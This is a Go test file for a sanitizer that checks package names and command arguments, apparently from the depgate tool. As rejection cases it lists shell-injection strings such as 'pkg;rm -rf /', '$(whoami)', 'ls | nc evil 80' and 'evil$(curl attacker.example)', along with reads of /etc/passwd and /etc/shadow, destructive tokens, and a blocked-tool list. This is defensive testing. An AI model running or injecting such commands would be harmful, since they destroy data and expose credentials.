package sanitize

import (
	"errors"
	"strings"
	"testing"

	"github.com/ppiankov/depgate/internal/secerr"
)

func requireValidationError(t *testing.T, err error) {
	t.Helper()
	if err == nil {
		t.Fatal("expected rejection, got nil error")
	}
	var ve *secerr.ValidationError
	if !errors.As(err, &ve) {
		t.Fatalf("expected *secerr.ValidationError, got %T: %v", err, err)
	}
}

func TestPackageNameKnownGood(t *testing.T) {
	v := NewDefault()
	good := []string{
		"lodash",
		"express",
		"@types/node-fetch",
		"left-pad",
		"some_pkg.v2",
		"~odd-but-legal",
	}
	for _, name := range good {
		got, err := v.PackageName(name)
		if err != nil {
			t.Errorf("PackageName(%q) unexpected error: %v", name, err)
			continue
		}
		if got != name {
			t.Errorf("PackageName(%q) = %q, want input unchanged", name, got)
		}
	}
}

func TestPackageNameShellMetacharacters(t *testing.T) {
	v := NewDefault()
	bad := []string{
		"pkg;rm -rf /",
		"pkg|cat /etc/passwd",
		"pkg&background",
		"pkg`id`",
		"pkg$(whoami)",
		"pkg{expand}",
	}
	for _, name := range bad {
		_, err := v.PackageName(name)
		requireValidationError(t, err)
	}
}

func TestPackageNameTraversalAndProtocols(t *testing.T) {
	v := NewDefault()
	bad := []string{
		"../../../etc/passwd",
		"..\\windows\\system32",
		"pkg//nested",
		"file:///etc/shadow",
		"http://evil.example",
		"https://evil.example",
		"data:text/html;base64,x",
	}
	for _, name := range bad {
		_, err := v.PackageName(name)
		requireValidationError(t, err)
	}
}

func TestPackageNameToolTokens(t *testing.T) {
	v := NewDefault()
	bad := []string{
		"curl-wrapper",
		"wget2",
		"bash-utils",
		"powershell-core",
		"base64-pkg",
		"whoami-lib",
	}
	for _, name := range bad {
		_, err := v.PackageName(name)
		requireValidationError(t, err)
	}
}

func TestPackageNameBareShellInvokers(t *testing.T) {
	v := NewDefault()
	if _, err := v.PackageName("sh"); err == nil {
		t.Error("expected bare 'sh' to be rejected")
	}
	if _, err := v.PackageName("cmd"); err == nil {
		t.Error("expected bare 'cmd' to be rejected")
	}
	// Word-boundary only: names merely containing the letters are fine.
	if _, err := v.PackageName("lodash"); err != nil {
		t.Errorf("'lodash' should pass: %v", err)
	}
	if _, err := v.PackageName("cmdk"); err != nil {
		t.Errorf("'cmdk' should pass: %v", err)
	}
}

func TestPackageNameSensitivePrefixes(t *testing.T) {
	v := NewDefault()
	bad := []string{
		"node_modules-helper",
		".git-hooks",
		".env-loader",
		"etc/passwd",
		"usr/local",
		"var/log",
		"tmp/scratch",
	}
	for _, name := range bad {
		if _, err := v.PackageName(name); err == nil {
			t.Errorf("PackageName(%q) should be rejected", name)
		}
	}
}

func TestPackageNameLengthBounds(t *testing.T) {
	v := NewDefault()
	if _, err := v.PackageName(""); err == nil {
		t.Error("empty name should be rejected")
	}
	if _, err := v.PackageName("   "); err == nil {
		t.Error("whitespace-only name should be rejected")
	}
	if _, err := v.PackageName(strings.Repeat("a", 215)); err == nil {
		t.Error("name over 214 chars should be rejected")
	}
	if _, err := v.PackageName(strings.Repeat("a", 214)); err != nil {
		t.Error("name of exactly 214 chars should pass")
	}
}

func TestPackageNameUppercaseRejected(t *testing.T) {
	v := NewDefault()
	if _, err := v.PackageName("LoDash"); err == nil {
		t.Error("uppercase name should fail the allow-list pattern")
	}
}

func TestPackageNameErrorOmitsPayload(t *testing.T) {
	v := NewDefault()
	_, err := v.PackageName("evil$(curl attacker.example)")
	if err == nil {
		t.Fatal("expected rejection")
	}
	if strings.Contains(err.Error(), "attacker.example") {
		t.Errorf("error leaked payload: %q", err.Error())
	}
}

func TestCommandArgsRejectMetacharacters(t *testing.T) {
	v := NewDefault()
	bad := [][]string{
		{"install", "pkg; rm -rf /"},
		{"ls | nc evil 80"},
		{"a > /etc/passwd"},
		{"a >> out"},
		{"$(id)"},
		{"`id`"},
		{"line\nbreak"},
		{"tab\there"},
		{"back\\slash"},
	}
	for _, args := range bad {
		if _, err := v.CommandArgs(args); err == nil {
			t.Errorf("CommandArgs(%q) should be rejected", args)
		}
	}
}

func TestCommandArgsRejectDestructiveTokens(t *testing.T) {
	v := NewDefault()
	bad := []string{"rm -rf x", "del c:", "mkfs.ext4", "dd if=/dev/zero", "eval x", "exec x", "ssh host", "ftp host"}
	for _, arg := range bad {
		if _, err := v.CommandArgs([]string{arg}); err == nil {
			t.Errorf("CommandArgs(%q) should be rejected", arg)
		}
	}
}

func TestCommandArgsAcceptTypical(t *testing.T) {
	v := NewDefault()
	args := []string{"install", "lodash", "--save-exact"}
	got, err := v.CommandArgs(args)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(got) != 3 || got[1] != "lodash" {
		t.Errorf("expected args passed through, got %q", got)
	}
}

func TestCommandArgsLengthCap(t *testing.T) {
	v := NewDefault()
	if _, err := v.CommandArgs([]string{strings.Repeat("a", 1001)}); err == nil {
		t.Error("argument over 1000 chars should be rejected")
	}
}

func TestListsAreInjectable(t *testing.T) {
	lists := DefaultLists()
	lists.AllowedHosts = []string{"internal.registry.example"}
	v := New(lists)
	if _, err := v.URL("https://internal.registry.example/pkg"); err != nil {
		t.Errorf("custom allow-list host should pass: %v", err)
	}
	if _, err := v.URL("https://registry.npmjs.org/lodash"); err == nil {
		t.Error("default host should fail under custom allow-list")
	}
}

func FuzzPackageName(f *testing.F) {
	seeds := []string{
		"lodash", "@scope/pkg", "pkg;id", "../../etc", "a$(b)", "", "sh",
		strings.Repeat("x", 300),
	}
	for _, s := range seeds {
		f.Add(s)
	}
	v := NewDefault()
	f.Fuzz(func(t *testing.T, raw string) {
		got, err := v.PackageName(raw)
		if err != nil {
			return
		}
		// Gate property: accepted input comes back unchanged.
		if got != raw {
			t.Errorf("accepted input mutated: %q -> %q", raw, got)
		}
		// Accepted names never contain shell metacharacters.
		for _, c := range []string{";", "|", "&", "$", "`", "(", ")"} {
			if strings.Contains(got, c) {
				t.Errorf("accepted name contains %q: %q", c, got)
			}
		}
	})
}
